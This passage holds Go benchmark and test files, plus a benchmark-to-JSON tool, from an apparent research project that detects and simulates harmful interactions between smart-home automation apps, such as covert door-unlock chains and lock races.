package homeguard

// Benchmarks regenerating every table and figure of the paper's evaluation
// (see DESIGN.md's per-experiment index), plus ablation benches for the
// design choices: candidate filtering before solving, constraint-solving
// result reuse, and symbolic execution vs AST-grep-style extraction.

import (
	"context"
	"testing"

	"homeguard/internal/audit"
	"homeguard/internal/corpus"
	"homeguard/internal/detect"
	"homeguard/internal/envmodel"
	"homeguard/internal/experiments"
	"homeguard/internal/messaging"
	"homeguard/internal/rule"
	"homeguard/internal/symexec"
)

// BenchmarkTable1Detection runs the seven category-coverage scenarios.
func BenchmarkTable1Detection(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows := experiments.Table1()
		for _, r := range rows {
			if !r.Detected {
				b.Fatalf("category %s undetected", r.Kind)
			}
		}
	}
}

// BenchmarkTable2RuleExtraction extracts ComfortTV (Listing 1 → Table II).
func BenchmarkTable2RuleExtraction(b *testing.B) {
	a, _ := corpus.Get("ComfortTV")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := symexec.Extract(a.Source, "")
		if err != nil || len(res.Rules.Rules) != 1 {
			b.Fatal("extraction failed")
		}
	}
}

// BenchmarkTable3Malicious extracts rules from the 18 malicious apps.
func BenchmarkTable3Malicious(b *testing.B) {
	apps := corpus.ByCategory(corpus.Malicious)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, a := range apps {
			if _, err := symexec.Extract(a.Source, ""); err != nil {
				b.Fatal(err)
			}
		}
	}
}

// BenchmarkFig8StoreAudit runs the full 90-app pairwise audit on the
// parallel audit engine (internal/audit): the ~4000 app pairs fan out
// over a work-stealing worker pool, one detector per worker, so the
// audit scales with GOMAXPROCS while producing byte-identical findings.
// BenchmarkFig8StoreAuditSerial is the single-worker contrast run.
func BenchmarkFig8StoreAudit(b *testing.B) {
	for i := 0; i < b.N; i++ {
		r := experiments.Fig8()
		if r.TotalThreats == 0 {
			b.Fatal("no threats found")
		}
	}
}

// BenchmarkFig8StoreAuditSerial pins the audit to one worker — the
// GOMAXPROCS=1-equivalent contrast for the scaling measurement.
func BenchmarkFig8StoreAuditSerial(b *testing.B) {
	for i := 0; i < b.N; i++ {
		r := experiments.Fig8Workers(1)
		if r.TotalThreats == 0 {
			b.Fatal("no threats found")
		}
	}
}

// BenchmarkStoreAuditSparse is the sublinear-detection scaling benchmark:
// a synthetic 1000-app store with ~5% channel overlap (device pool 80 —
// see experiments.SyntheticSparseApps) audited with work items generated
// from footprint-index postings ("index") vs the full n·(n−1)/2 pair grid
// with the per-pair footprint prune ("grid", the pre-index scan path).
// The findings are byte-identical (pinned by TestIndexedAuditMatchesGrid);
// the benchmark measures candidate generation: the grid enumerates and
// footprint-checks every one of the ~500k app pairs, the index touches
// only the ~5% that share a channel.
func BenchmarkStoreAuditSparse(b *testing.B) {
	run := func(b *testing.B, apps []audit.App, opts audit.Options) {
		var last *audit.Result
		for i := 0; i < b.N; i++ {
			last = audit.Run(apps, opts)
			if len(last.Installed) != len(apps) {
				b.Fatal("synthetic apps failed to install")
			}
		}
		st := last.Stats
		cross := len(apps) * (len(apps) - 1) / 2
		b.ReportMetric(float64(st.PairsIndexed), "cand-pairs")
		b.ReportMetric(float64(st.PairsIndexed)/float64(cross), "cand-frac")
		b.ReportMetric(float64(st.PairsSkippedByIndex), "skipped-rule-pairs")
		// Stats are per audit run (each iteration builds a fresh Result),
		// so no division by b.N.
		b.ReportMetric(float64(st.SolverCalls), "solver-calls")
	}
	// The pool scales with n so per-app overlap stays constant (~50
	// counterpart candidates per app): the index path's work is then
	// near-linear in app count while the grid's candidate enumeration
	// stays quadratic — the index/grid gap must WIDEN from 1k to 2k (the
	// super-constant-factor acceptance of this PR).
	for _, size := range []struct {
		tag  string
		n    int
		pool int
	}{{"1k", 1000, 80}, {"2k", 2000, 160}} {
		apps := experiments.SyntheticSparseApps(size.n, size.pool, 1)
		b.Run("index-"+size.tag, func(b *testing.B) {
			run(b, apps, audit.Options{IndexDensityCutoff: 1.1})
		})
		b.Run("grid-"+size.tag, func(b *testing.B) {
			run(b, apps, audit.Options{DisableIndex: true})
		})
	}
}

// BenchmarkIncrementalAudit is the PR-8 churn benchmark: steady-state
// store maintenance on the 2k sparse synthetic corpus. "full-reaudit-2k"
// re-runs the whole indexed audit from scratch — the cost every store
// revision paid before the incremental Auditor. "churn-1pct-2k" applies
// a 1% batch (20 reconfigured apps) to a warm Auditor that retains the
// footprint index, compiled rule sets and pair verdicts across
// revisions, so only pairs intersecting the changed footprints are
// re-solved. Findings parity between the two paths is pinned byte-for-
// byte by TestIncrementalMatchesFullAudit; BENCH_pr8.json records the
// gate baselines.
func BenchmarkIncrementalAudit(b *testing.B) {
	const (
		n     = 2000
		pool  = 160
		churn = n / 100
	)
	base := experiments.SyntheticSparseApps(n, pool, 1)
	b.Run("full-reaudit-2k", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			r := audit.Run(base, audit.Options{IndexDensityCutoff: 1.1})
			if len(r.Installed) != n {
				b.Fatal("synthetic apps failed to install")
			}
		}
	})
	b.Run("churn-1pct-2k", func(b *testing.B) {
		// Same app names, different device picks and trigger states: each
		// toggle between the two generations really changes footprints.
		variant := experiments.SyntheticSparseApps(n, pool, 2)
		aud := audit.NewAuditor(audit.AuditorOptions{})
		if _, err := aud.Apply(audit.Batch{Upserts: base}); err != nil {
			b.Fatal(err)
		}
		onVariant := make([]bool, n)
		var pairs int
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			start := i * churn % n
			batch := audit.Batch{Upserts: make([]audit.App, 0, churn)}
			for j := start; j < start+churn; j++ {
				k := j % n
				if onVariant[k] {
					batch.Upserts = append(batch.Upserts, base[k])
				} else {
					batch.Upserts = append(batch.Upserts, variant[k])
				}
				onVariant[k] = !onVariant[k]
			}
			rev, err := aud.Apply(batch)
			if err != nil {
				b.Fatal(err)
			}
			if rev.Apps != n {
				b.Fatalf("store shrank to %d apps", rev.Apps)
			}
			pairs += rev.Pairs
		}
		b.ReportMetric(float64(pairs)/float64(b.N), "pairs-rechecked/op")
	})
}

// BenchmarkFleetReconfigure measures the steady-state reconfigure path of
// a populated home: the detector re-solves only the pairs whose footprint
// intersects the changed app (index candidates), and the fleet splices
// the result into the retained per-home threat ledger instead of
// recomputing the home.
func BenchmarkFleetReconfigure(b *testing.B) {
	f := NewFleet(FleetOptions{})
	apps := corpus.StoreAudit()[:40]
	var target string
	for i, a := range apps {
		res, err := f.Install(context.Background(), "bench-home", a.Source, nil)
		if err != nil {
			b.Fatal(err)
		}
		if i == len(apps)/2 {
			target = res.App.Name
		}
	}
	m0 := f.Metrics()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := f.Reconfigure(context.Background(), "bench-home", target, nil); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	m := f.Metrics()
	b.ReportMetric(float64(m.Detectors.PairsIndexed-m0.Detectors.PairsIndexed)/float64(b.N), "cand-pairs/op")
	if _, err := f.ActiveThreats("bench-home"); err != nil {
		b.Fatal(err)
	}
}

// BenchmarkFig9DetectionOverhead measures all-kinds detection on the
// canonical pairs with solving-result reuse enabled.
func BenchmarkFig9DetectionOverhead(b *testing.B) {
	for i := 0; i < b.N; i++ {
		r := experiments.Fig9()
		if r.CacheHits == 0 {
			b.Fatal("reuse did not engage")
		}
	}
}

// BenchmarkRuleExtractionPerApp is the Sec. VIII-C mean-extraction-time
// measurement (paper: 1341 ms/app on an i7-6700 under the Groovy
// compiler; ours runs the native extractor).
func BenchmarkRuleExtractionPerApp(b *testing.B) {
	var apps []corpus.App
	apps = append(apps, corpus.ByCategory(corpus.Demo)...)
	apps = append(apps, corpus.ByCategory(corpus.Benign)...)
	apps = append(apps, corpus.ByCategory(corpus.Notification)...)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		a := apps[i%len(apps)]
		if _, err := symexec.Extract(a.Source, ""); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkRuleFileSize measures rule-file serialization (paper: ≈6.2 KB
// mean rule file).
func BenchmarkRuleFileSize(b *testing.B) {
	a, _ := corpus.Get("MakeItSo")
	res, err := symexec.Extract(a.Source, "")
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		buf, err := rule.MarshalRuleSet(res.Rules)
		if err != nil || len(buf) == 0 {
			b.Fatal("marshal failed")
		}
	}
}

// BenchmarkConfigCollectionSMS / HTTP reproduce the messaging latency
// comparison; the reported metric is simulated end-to-end latency, the
// benchmark time is the simulation cost.
func BenchmarkConfigCollectionSMS(b *testing.B) {
	inbox := &messaging.Inbox{}
	ch := messaging.NewSMS("5551234", inbox, 1)
	var total int64
	for i := 0; i < b.N; i++ {
		d, err := ch.Send("homeguard://appname:X/")
		if err != nil {
			b.Fatal(err)
		}
		total += int64(d.Latency)
	}
	b.ReportMetric(float64(total)/float64(b.N)/1e6, "simulated-ms/delivery")
}

func BenchmarkConfigCollectionHTTP(b *testing.B) {
	inbox := &messaging.Inbox{}
	ch := messaging.NewHTTP("token", inbox, 1)
	var total int64
	for i := 0; i < b.N; i++ {
		d, err := ch.Send("homeguard://appname:X/")
		if err != nil {
			b.Fatal(err)
		}
		total += int64(d.Latency)
	}
	b.ReportMetric(float64(total)/float64(b.N)/1e6, "simulated-ms/delivery")
}

// ---------- ablation benches (DESIGN.md design decisions) ----------

// BenchmarkAblationFiltering compares detection with the M_AR/M_GC
// candidate pre-filters against solve-everything, over a slice of the
// store corpus (the filters reject most of the pairwise work).
func BenchmarkAblationFiltering(b *testing.B) {
	apps := corpus.StoreAudit()[:20]
	var installed []*detect.InstalledApp
	for _, a := range apps {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			b.Fatal(err)
		}
		installed = append(installed, detect.NewInstalledApp(res, experiments.StoreConfig(res)))
	}
	run := func(b *testing.B, opts detect.Options) {
		for i := 0; i < b.N; i++ {
			d := detect.New(opts)
			for _, ia := range installed {
				d.Install(ia)
			}
		}
	}
	b.Run("with-filtering", func(b *testing.B) { run(b, detect.Options{}) })
	b.Run("without-filtering", func(b *testing.B) { run(b, detect.Options{DisableFiltering: true}) })
}

// BenchmarkAblationReuse compares solving-result reuse on the
// Self-Disabling scenario (where CT reuses the AR merge).
func BenchmarkAblationReuse(b *testing.B) {
	install := func(opts detect.Options) *detect.Detector {
		d := detect.New(opts)
		cfg1 := detect.NewConfig()
		cfg1.Devices["ac1"] = "dev-ac"
		cfg1.DeviceTypes["ac1"] = envmodel.AirConditioner
		d.Install(detect.NewInstalledApp(experiments.MustExtract("ItsTooHot"), cfg1))
		cfg2 := detect.NewConfig()
		cfg2.Devices["heavyLoads"] = "dev-ac"
		cfg2.DeviceTypes["heavyLoads"] = envmodel.AirConditioner
		d.Install(detect.NewInstalledApp(experiments.MustExtract("EnergySaver"), cfg2))
		return d
	}
	b.Run("with-reuse", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			d := install(detect.Options{})
			if d.Stats().SolverCacheHits == 0 {
				b.Fatal("no reuse")
			}
		}
	})
	b.Run("without-reuse", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			install(detect.Options{DisableReuse: true})
		}
	})
}

// BenchmarkExtractionCorpus sweeps the whole corpus through the extractor
// (the Sec. VIII-B 146-app run; ours analyses the 122 non-web-service
// corpus apps + 22 web/malicious separately).
func BenchmarkExtractionCorpus(b *testing.B) {
	apps := corpus.All()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, a := range apps {
			if _, err := symexec.Extract(a.Source, ""); err != nil {
				b.Fatal(err)
			}
		}
	}
	b.ReportMetric(float64(len(apps)), "apps/op")
}

// BenchmarkInstallReport measures the full public-API install flow
// (extraction + detection + report rendering) for one app pair.
func BenchmarkInstallReport(b *testing.B) {
	comfort, _ := corpus.Get("ComfortTV")
	cold, _ := corpus.Get("ColdDefender")
	for i := 0; i < b.N; i++ {
		home := NewHome(Options{})
		cfg1 := NewConfig()
		cfg1.Devices["tv1"] = "dev-tv"
		cfg1.Devices["window1"] = "dev-window"
		if _, err := home.InstallApp(comfort.Source, cfg1); err != nil {
			b.Fatal(err)
		}
		cfg2 := NewConfig()
		cfg2.Devices["tv1"] = "dev-tv"
		cfg2.Devices["window1"] = "dev-window"
		res, err := home.InstallApp(cold.Source, cfg2)
		if err != nil {
			b.Fatal(err)
		}
		if len(res.Threats) == 0 {
			b.Fatal("race not reported")
		}
	}
}
