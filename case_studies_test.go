package homeguard

// The six concrete case studies of Sec. VIII-B, verified statically (the
// detector reports them) and, where the paper demonstrated an exploit,
// dynamically in the simulator.

import (
	"testing"

	"homeguard/internal/corpus"
	"homeguard/internal/detect"
	"homeguard/internal/envmodel"
	"homeguard/internal/interp"
	"homeguard/internal/platform"
)

func corpusSrc(t *testing.T, name string) string {
	t.Helper()
	a, ok := corpus.Get(name)
	if !ok {
		t.Fatalf("missing corpus app %s", name)
	}
	return a.Source
}

func kinds(ts []Threat) map[ThreatKind]int {
	m := map[ThreatKind]int{}
	for _, t := range ts {
		m[t.Kind]++
	}
	return m
}

// Case 1+2: SwitchChangesMode + MakeItSo form a covert rule "switch state
// unlocks the door"; CurlingIron extends the chain — motion covertly
// unlocks the door (the paper's CO2-laser attack surface).
func TestCaseStudyCovertUnlockChain(t *testing.T) {
	home := NewHome(Options{Modes: []string{"Home", "Away", "Night", "Party"}})

	cfgSCM := NewConfig()
	cfgSCM.Devices["master"] = "dev-outlet"
	cfgSCM.DeviceTypes["master"] = envmodel.Outlet
	r1, err := home.InstallApp(corpusSrc(t, "SwitchChangesMode"), cfgSCM)
	if err != nil {
		t.Fatal(err)
	}
	home.Accept(r1.Threats...)

	cfgMIS := NewConfig()
	cfgMIS.Devices["switches"] = "dev-lamp"
	cfgMIS.Devices["locks"] = "dev-lock"
	cfgMIS.Devices["thermostat1"] = "dev-thermostat"
	cfgMIS.DeviceTypes["switches"] = envmodel.LightDev
	r2, err := home.InstallApp(corpusSrc(t, "MakeItSo"), cfgMIS)
	if err != nil {
		t.Fatal(err)
	}
	// SwitchChangesMode's action (setLocationMode) triggers MakeItSo's
	// location-mode trigger: the covert rule of case study 1.
	var sawCT bool
	for _, th := range r2.Threats {
		if th.Kind == CovertTriggering &&
			th.R1.App == "SwitchChangesMode" && th.R2.App == "MakeItSo" {
			sawCT = true
		}
	}
	if !sawCT {
		t.Fatalf("case 1: covert rule switch→mode→unlock not found: %v", r2.Threats)
	}
	home.Accept(r2.Threats...)

	// CurlingIron turns on the same outlets as SwitchChangesMode's master
	// switch — case study 2's chain head.
	cfgCI := NewConfig()
	cfgCI.Devices["outlets"] = "dev-outlet"
	cfgCI.DeviceTypes["outlets"] = envmodel.Outlet
	r3, err := home.InstallApp(corpusSrc(t, "CurlingIron"), cfgCI)
	if err != nil {
		t.Fatal(err)
	}
	var headCT bool
	for _, th := range r3.Threats {
		if th.Kind == CovertTriggering && th.R1.App == "CurlingIron" {
			headCT = true
		}
	}
	if !headCT {
		t.Fatalf("case 2: CurlingIron covert trigger missing: %v", r3.Threats)
	}
	if len(r3.Chains) == 0 {
		t.Fatal("case 2: the motion→mode→unlock chain should be reported")
	}
	foundChain := false
	for _, c := range r3.Chains {
		if len(c.Rules) >= 3 && c.Rules[0].App == "CurlingIron" {
			foundChain = true
		}
	}
	if !foundChain {
		t.Errorf("chains found but none rooted at CurlingIron: %v", r3.Chains)
	}
}

// TestCaseStudyCovertUnlockDynamic verifies the chain end to end: spoofed
// motion (the CO2-laser attack) unlocks the door through three apps.
func TestCaseStudyCovertUnlockDynamic(t *testing.T) {
	h := platform.NewHome(4)
	h.AddDevice(&platform.Device{ID: "dev-motion", Name: "bathroom motion",
		Capabilities: []string{"motionSensor"}})
	h.AddDevice(&platform.Device{ID: "dev-outlet", Name: "curling iron outlet",
		Capabilities: []string{"switch"}, Type: envmodel.Outlet, WattsOn: 40})
	h.AddDevice(&platform.Device{ID: "dev-lamp", Name: "lamp",
		Capabilities: []string{"switch"}, Type: envmodel.LightDev})
	lock := h.AddDevice(&platform.Device{ID: "dev-lock", Name: "front door",
		Capabilities: []string{"lock"}})
	h.AddDevice(&platform.Device{ID: "dev-thermostat", Name: "thermostat",
		Capabilities: []string{"thermostat"}})

	if _, err := interp.Install(h, corpusSrc(t, "CurlingIron"),
		interp.NewConfig().Bind("motion1", "dev-motion").Bind("outlets", "dev-outlet")); err != nil {
		t.Fatal(err)
	}
	if _, err := interp.Install(h, corpusSrc(t, "SwitchChangesMode"),
		interp.NewConfig().Bind("master", "dev-outlet").
			Set("onMode", "Party").Set("offMode", "Night")); err != nil {
		t.Fatal(err)
	}
	if _, err := interp.Install(h, corpusSrc(t, "MakeItSo"),
		interp.NewConfig().Bind("switches", "dev-lamp").Bind("locks", "dev-lock").
			Bind("thermostat1", "dev-thermostat").
			Set("targetMode", "Party").Set("heatSetpoint", 68)); err != nil {
		t.Fatal(err)
	}

	if v, _ := lock.Attr("lock"); v.Str != "locked" {
		t.Fatalf("precondition: lock = %v", v)
	}
	// The burglar spoofs the motion sensor from outside.
	h.InjectSensor("dev-motion", "motion", platform.StrValue("active"))
	if v, _ := lock.Attr("lock"); v.Str != "unlocked" {
		t.Errorf("lock = %v — the covert chain should have unlocked the door", v)
	}
	if h.Mode() != "Party" {
		t.Errorf("mode = %q, want Party via SwitchChangesMode", h.Mode())
	}
}

// Case 3: NFCTagToggle vs LockItWhenILeave — an actuator race on the lock
// that can leave the door unlocked after the user leaves.
func TestCaseStudyToggleVsAutoLock(t *testing.T) {
	home := NewHome(Options{})
	cfg1 := NewConfig()
	cfg1.Devices["presence1"] = "dev-tag"
	cfg1.Devices["locks"] = "dev-lock"
	r1, err := home.InstallApp(corpusSrc(t, "LockItWhenILeave"), cfg1)
	if err != nil {
		t.Fatal(err)
	}
	home.Accept(r1.Threats...)
	cfg2 := NewConfig()
	cfg2.Devices["switches"] = "dev-appliances"
	cfg2.Devices["lock1"] = "dev-lock"
	r2, err := home.InstallApp(corpusSrc(t, "NFCTagToggle"), cfg2)
	if err != nil {
		t.Fatal(err)
	}
	if kinds(r2.Threats)[ActuatorRace] == 0 {
		t.Fatalf("case 3: lock/unlock race not found: %v", r2.Threats)
	}

	// Dynamic: the user leaves (auto-lock), then taps the toggle — the
	// out-of-sync toggle unlocks the just-locked door.
	h := platform.NewHome(6)
	h.AddDevice(&platform.Device{ID: "dev-tag", Name: "presence tag",
		Capabilities: []string{"presenceSensor"}})
	h.AddDevice(&platform.Device{ID: "dev-appliances", Name: "appliances",
		Capabilities: []string{"switch"}, Type: envmodel.Outlet})
	lock := h.AddDevice(&platform.Device{ID: "dev-lock", Name: "front door",
		Capabilities: []string{"lock"}})
	h.Command("dev-lock", "unlock") // user is home, door unlocked
	h.Step(10)                      // let the lock finish its transition
	if _, err := interp.Install(h, corpusSrc(t, "LockItWhenILeave"),
		interp.NewConfig().Bind("presence1", "dev-tag").Bind("locks", "dev-lock")); err != nil {
		t.Fatal(err)
	}
	toggle, err := interp.Install(h, corpusSrc(t, "NFCTagToggle"),
		interp.NewConfig().Bind("switches", "dev-appliances").Bind("lock1", "dev-lock"))
	if err != nil {
		t.Fatal(err)
	}
	// The user used the toggle once before leaving (its state now says the
	// next tap is the "unlock" half).
	toggle.Touch()
	h.Step(10)
	h.InjectSensor("dev-tag", "presence", platform.StrValue("present"))
	h.InjectSensor("dev-tag", "presence", platform.StrValue("not present"))
	if v, _ := lock.Attr("lock"); v.Str != "locked" {
		t.Fatalf("auto-lock failed: %v", v)
	}
	h.Step(10) // the lock settles
	// Now the user taps again, intending "everything off + locked" — but
	// the out-of-sync toggle unlocks the just-locked door while away.
	toggle.Touch()
	if v, _ := lock.Attr("lock"); v.Str != "unlocked" {
		t.Errorf("lock = %v — the paper's case 3 leaves the door unlocked", v)
	}
}

// Case 4: LetThereBeDark races other light-control apps on the same
// lights. The trigger sensors differ (front door vs basement door) — the
// race needs situations where both rules fire, which same-sensor bindings
// would exclude.
func TestCaseStudyLightRaces(t *testing.T) {
	home := NewHome(Options{})
	cfg1 := NewConfig()
	cfg1.Devices["contact1"] = "dev-front-door"
	cfg1.Devices["lights"] = "dev-lights"
	cfg1.DeviceTypes["lights"] = envmodel.LightDev
	r1, err := home.InstallApp(corpusSrc(t, "LetThereBeDark"), cfg1)
	if err != nil {
		t.Fatal(err)
	}
	home.Accept(r1.Threats...)
	for _, other := range []struct {
		name  string
		devs  map[string]string
		types map[string]envmodel.DeviceType
	}{
		{"LightsOffWhenClosed",
			map[string]string{"door1": "dev-basement-door", "lights": "dev-lights"},
			map[string]envmodel.DeviceType{"lights": envmodel.LightDev}},
		{"UndeadEarlyWarning",
			map[string]string{"door1": "dev-basement-door", "lights": "dev-lights"},
			map[string]envmodel.DeviceType{"lights": envmodel.LightDev}},
		{"TurnItOnFor5Minutes",
			map[string]string{"contact1": "dev-basement-door", "switch1": "dev-lights"},
			map[string]envmodel.DeviceType{"switch1": envmodel.LightDev}},
	} {
		cfg := NewConfig()
		for k, v := range other.devs {
			cfg.Devices[k] = v
		}
		for k, v := range other.types {
			cfg.DeviceTypes[k] = v
		}
		res, err := home.InstallApp(corpusSrc(t, other.name), cfg)
		if err != nil {
			t.Fatalf("%s: %v", other.name, err)
		}
		if kinds(res.Threats)[ActuatorRace] == 0 {
			t.Errorf("case 4: no race between LetThereBeDark and %s: %v",
				other.name, res.Threats)
		}
		home.Accept(res.Threats...)
	}
}

// Case 5: It'sTooHot / EnergySaver Self-Disabling (static; the dynamic
// variant lives in deployment_test.go).
func TestCaseStudySelfDisabling(t *testing.T) {
	home := NewHome(Options{})
	cfg1 := NewConfig()
	cfg1.Devices["ac1"] = "dev-ac"
	cfg1.DeviceTypes["ac1"] = envmodel.AirConditioner
	r1, err := home.InstallApp(corpusSrc(t, "ItsTooHot"), cfg1)
	if err != nil {
		t.Fatal(err)
	}
	home.Accept(r1.Threats...)
	cfg2 := NewConfig()
	cfg2.Devices["heavyLoads"] = "dev-ac"
	cfg2.DeviceTypes["heavyLoads"] = envmodel.AirConditioner
	r2, err := home.InstallApp(corpusSrc(t, "EnergySaver"), cfg2)
	if err != nil {
		t.Fatal(err)
	}
	if kinds(r2.Threats)[SelfDisabling] == 0 {
		t.Fatalf("case 5: SD not reported: %v", r2.Threats)
	}
}

// Case 6: LightUpTheNight loop-triggers itself — and really flashes in the
// simulator.
func TestCaseStudyLightLoop(t *testing.T) {
	home := NewHome(Options{})
	cfg := NewConfig()
	cfg.Devices["lights"] = "dev-lights"
	cfg.DeviceTypes["lights"] = envmodel.LightDev
	res, err := home.InstallApp(corpusSrc(t, "LightUpTheNight"), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if kinds(res.Threats)[LoopTriggering] == 0 {
		t.Fatalf("case 6: LT not reported: %v", res.Threats)
	}

	// Dynamic: at night (dark ambient), the light's own illuminance
	// contribution crosses the upper threshold, turning itself off, which
	// drops below the lower threshold, turning itself back on — flashing.
	h := platform.NewHome(8)
	h.AddDevice(&platform.Device{ID: "dev-lux", Name: "lux sensor",
		Capabilities: []string{"illuminanceMeasurement"}})
	light := h.AddDevice(&platform.Device{ID: "dev-lights", Name: "lights",
		Capabilities: []string{"switch"}, Type: envmodel.LightDev, WattsOn: 60})
	if _, err := interp.Install(h, corpusSrc(t, "LightUpTheNight"),
		interp.NewConfig().Bind("luxSensor", "dev-lux").Bind("lights", "dev-lights")); err != nil {
		t.Fatal(err)
	}
	h.Step(11 * 3600) // advance to ~23:00 — dark ambient
	transitions := 0
	last := ""
	for i := 0; i < 40; i++ {
		h.Step(60)
		v, _ := light.Attr("switch")
		if v.Str != last {
			transitions++
			last = v.Str
		}
	}
	if transitions < 4 {
		t.Errorf("case 6: expected flashing (>=4 transitions), got %d", transitions)
	}
}

// The detector must also find SD for the directed pair regardless of
// installation order.
func TestCaseStudySelfDisablingReversedOrder(t *testing.T) {
	home := NewHome(Options{})
	cfg2 := NewConfig()
	cfg2.Devices["heavyLoads"] = "dev-ac"
	cfg2.DeviceTypes["heavyLoads"] = envmodel.AirConditioner
	r1, err := home.InstallApp(corpusSrc(t, "EnergySaver"), cfg2)
	if err != nil {
		t.Fatal(err)
	}
	home.Accept(r1.Threats...)
	cfg1 := NewConfig()
	cfg1.Devices["ac1"] = "dev-ac"
	cfg1.DeviceTypes["ac1"] = envmodel.AirConditioner
	r2, err := home.InstallApp(corpusSrc(t, "ItsTooHot"), cfg1)
	if err != nil {
		t.Fatal(err)
	}
	if kinds(r2.Threats)[SelfDisabling] == 0 {
		t.Fatalf("SD must be order-independent: %v", r2.Threats)
	}
}

var _ = detect.ActuatorRace // keep the import for kind constants used above
