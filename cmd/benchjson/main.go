// Command benchjson converts `go test -bench` output into machine-readable
// JSON and gates allocation regressions against a committed baseline.
//
// Convert (stdin → stdout):
//
//	go test -bench . -benchmem ./... | go run ./cmd/benchjson > BENCH.json
//
// The output maps benchmark name → {ns_per_op, bytes_per_op,
// allocs_per_op, extra} under "benchmarks", where extra collects custom
// b.ReportMetric units (hit-ratio, solver-calls, ...). Sub-benchmarks
// keep their full slash-separated names; the GOMAXPROCS "-N" suffix is
// stripped so keys are stable across machines.
//
// Gate (allocation and time regression):
//
//	go test -bench BenchmarkDetectPair -benchmem ./internal/detect \
//	  | go run ./cmd/benchjson -gate BenchmarkDetectPair \
//	      -baseline BENCH_pr3.json -max-regress 0.10 -max-ns-regress 0.20
//
// reads the named benchmark from stdin, looks it up under "benchmarks" in
// the baseline file, and exits non-zero when allocs/op exceeds the
// baseline by more than -max-regress (a fraction; 0.10 = +10%), or — when
// -max-ns-regress is positive — when ns/op exceeds the baseline by more
// than that fraction. Wall-clock gating is noisier than allocation
// gating, so the ns bound should be generous (±20%); a run that comes in
// 20% FASTER than baseline is reported as a hint to refresh the baseline
// but does not fail the build.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"sort"
	"strconv"
	"strings"
)

// Result is one benchmark's parsed metrics.
type Result struct {
	NsPerOp     float64            `json:"ns_per_op"`
	BytesPerOp  float64            `json:"bytes_per_op"`
	AllocsPerOp float64            `json:"allocs_per_op"`
	Iterations  int64              `json:"iterations"`
	Extra       map[string]float64 `json:"extra,omitempty"`
}

// File is the on-disk schema of BENCH_*.json. BaselinePrePR carries the
// pre-optimization numbers a perf PR measured against, so the trajectory
// (before → after) stays readable from one artifact.
type File struct {
	Schema        string            `json:"schema"`
	Benchmarks    map[string]Result `json:"benchmarks"`
	BaselinePrePR map[string]Result `json:"baseline_pre_pr,omitempty"`
}

func main() {
	gate := flag.String("gate", "", "benchmark name to gate instead of converting")
	baseline := flag.String("baseline", "", "baseline JSON file for -gate")
	maxRegress := flag.Float64("max-regress", 0.10, "allowed fractional allocs/op regression for -gate")
	maxNsRegress := flag.Float64("max-ns-regress", 0,
		"allowed fractional ns/op regression for -gate (0 disables the time gate)")
	flag.Parse()

	results, err := parseBench(os.Stdin)
	if err != nil {
		fatalf("parse bench output: %v", err)
	}
	if *gate == "" {
		out := File{Schema: "homeguard-bench/v1", Benchmarks: results}
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(out); err != nil {
			fatalf("encode: %v", err)
		}
		return
	}

	got, ok := results[*gate]
	if !ok {
		fatalf("benchmark %q not found in input (have: %s)", *gate, names(results))
	}
	if *baseline == "" {
		fatalf("-gate requires -baseline")
	}
	raw, err := os.ReadFile(*baseline)
	if err != nil {
		fatalf("read baseline: %v", err)
	}
	var base File
	if err := json.Unmarshal(raw, &base); err != nil {
		fatalf("parse baseline %s: %v", *baseline, err)
	}
	want, ok := base.Benchmarks[*gate]
	if !ok {
		fatalf("benchmark %q not in baseline %s (have: %s)", *gate, *baseline, names(base.Benchmarks))
	}
	limit := want.AllocsPerOp * (1 + *maxRegress)
	fmt.Printf("gate %s: allocs/op = %.0f, baseline = %.0f, limit = %.1f\n",
		*gate, got.AllocsPerOp, want.AllocsPerOp, limit)
	if got.AllocsPerOp > limit {
		fatalf("allocation regression: %.0f allocs/op exceeds baseline %.0f by more than %.0f%%",
			got.AllocsPerOp, want.AllocsPerOp, *maxRegress*100)
	}
	if *maxNsRegress > 0 {
		nsLimit := want.NsPerOp * (1 + *maxNsRegress)
		fmt.Printf("gate %s: ns/op = %.0f, baseline = %.0f, limit = %.1f\n",
			*gate, got.NsPerOp, want.NsPerOp, nsLimit)
		if got.NsPerOp > nsLimit {
			fatalf("time regression: %.0f ns/op exceeds baseline %.0f by more than %.0f%%",
				got.NsPerOp, want.NsPerOp, *maxNsRegress*100)
		}
		if want.NsPerOp > 0 && got.NsPerOp < want.NsPerOp*(1-*maxNsRegress) {
			fmt.Printf("note: %.0f ns/op is more than %.0f%% below baseline %.0f — consider refreshing the baseline\n",
				got.NsPerOp, *maxNsRegress*100, want.NsPerOp)
		}
	}
	fmt.Println("gate passed")
}

func names(m map[string]Result) string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return strings.Join(out, ", ")
}

func fatalf(format string, args ...any) {
	fmt.Fprintf(os.Stderr, "benchjson: "+format+"\n", args...)
	os.Exit(1)
}

// parseBench reads standard testing.B output lines, e.g.
//
//	BenchmarkDetectPair-16  2190181  1120 ns/op  0 B/op  0 allocs/op
//	BenchmarkFleetInstall-16  1000  1.2e6 ns/op  0.999 hit-ratio  5 extractions
func parseBench(f *os.File) (map[string]Result, error) {
	out := map[string]Result{}
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		fields := strings.Fields(sc.Text())
		if len(fields) < 3 || !strings.HasPrefix(fields[0], "Benchmark") {
			continue
		}
		name := fields[0]
		// Strip the trailing -GOMAXPROCS so keys compare across machines;
